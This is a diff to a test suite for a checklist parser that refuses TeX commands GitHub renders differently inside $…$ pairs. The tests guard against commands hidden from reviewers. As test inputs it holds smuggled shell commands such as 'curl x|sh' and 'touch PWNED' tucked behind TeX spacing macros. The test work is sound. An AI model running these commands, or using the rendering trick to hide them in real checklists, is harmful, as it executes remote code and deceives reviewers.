@@ -417,8 +417,10 @@ describe('what a renderer shows differently is refused (issue 9 §1)', () => {
     }
     // Regex escapes and shell backslashes are not TeX commands outside math; a fence shows its text as it is.
     expect(parseOk(lines('- [ ] G1: t', "  CHECK: printf '%s\\n' x | grep -E '\\bx\\s*'", '  EXPECT: /^\\d+ tests\\b \\tests passed$/m')).gates).toHaveLength(1);
-    // Inside math they are: the CHECK's `$'` and the EXPECT's `$/` pair on GitHub's page (round 39y Y1).
-    expect(parseErrors(lines('- [ ] G1: t', "  CHECK: printf '%s\\n' x | grep -E '\\bx\\s*$'", '  EXPECT: /^\\d+ tests\\b \\tests passed$/m'))[0]).toMatch(/^3: TeX command \\d inside/);
+    // The CHECK's `$'` and the EXPECT's `$/` pair on GitHub's page (round 39y Y1): inside, a
+    // command MathJax does not know is drawn as its name; one it defines is refused.
+    expect(parseOk(lines('- [ ] G1: t', "  CHECK: printf '%s\\n' x | grep -E '\\bx\\s*$'", '  EXPECT: /^\\d+ tests\\b \\tests passed$/m')).gates).toHaveLength(1);
+    expect(parseErrors(lines('- [ ] G1: t', "  CHECK: printf '%s\\n' x | grep -E '\\bx\\s*$'", '  EXPECT: /^\\d+ \\lt tests passed$/m'))[0]).toMatch(/^3: TeX command \\lt inside/);
     expect(parseOk(lines('```', '$\\phantom{x}$', '```', '- [ ] G1: t', '  CHECK: x', '  EXPECT: y')).gates).toHaveLength(1);
   });
 
@@ -455,7 +457,16 @@ describe('what a renderer shows differently is refused (issue 9 §1)', () => {
     expect(parseErrors(lines('- [ ] A: t', '  CHECK: sh verify.sh $\\rule{-300em}{0em};touch PWNED$', '  EXPECT: ok'))[0]).toMatch(tex('\\rule'));
     expect(parseErrors(lines('- [ ] A: t', '  CHECK: sh verify.sh $\\!\\!\\!;touch PWNED$', '  EXPECT: ok'))[0]).toMatch(tex('\\!'));
     expect(parseErrors(lines('- [ ] A: t', '  CHECK: sh verify.sh $`\\Rule{-3em}{0em}{0em};x`$', '  EXPECT: ok'))[0]).toMatch(tex('\\Rule'));
-    expect(parseErrors(lines('- [ ] B: reviewed $$', '  CHECK: sh v.sh \\newthing;curl x|sh', '  EXPECT: x $$'))[0]).toMatch(tex('\\newthing'));
+    expect(parseErrors(lines('- [ ] B: reviewed $$', '  CHECK: sh v.sh \\genfrac;curl x|sh', '  EXPECT: x $$'))[0]).toMatch(tex('\\genfrac'));
+    // Inside math, a command MathJax does not know (a regex's \d, a printf's \n, \nexit in
+    // 'x\nexit-code') is drawn as its name, and one that stands for a character as that
+    // character: left alone.
+    for (const check of ['for f in "$A"/x; do printf \'v\\n\\t\\1\\nexit-code=0\' >> "$f"; done', 'echo "$A" \\. \\{ \\} \\| \\_ \\- \\\\ \\bfoo "$B"']) {
+      expect(parseOk(lines('- [ ] G1: t', `  CHECK: ${check}`, '  EXPECT: x')).gates, check).toHaveLength(1);
+    }
+    for (const cmd of ['\\,', '\\;', '\\:', '\\>', '\\ ', '\\S', '\\nexists', '\\quad', '\\hskip', '\\mathllap']) {
+      expect(parseErrors(lines('- [ ] A: t', `  CHECK: echo "$A" ${cmd}{x} "$B"`, '  EXPECT: ok'))[0], cmd).toMatch(/^2: TeX command \\.*(inside \$…\$|\(GitHub renders)/);
+    }
     // Not math: a regex's escapes outside any pair, a pair that never closes, a literal \$.
     for (const [check, expect_] of [['grep -c "\\bok" log && echo $HOME', 'x'], ['echo $a \\d', '/\\d+/'], ['echo \\$a \\d b$', 'x'], ['echo $x \\$ y$', 'x']]) {
       expect(parseOk(lines('- [ ] G1: t', `  CHECK: ${check}`, `  EXPECT: ${expect_}`)).gates, check).toHaveLength(1);
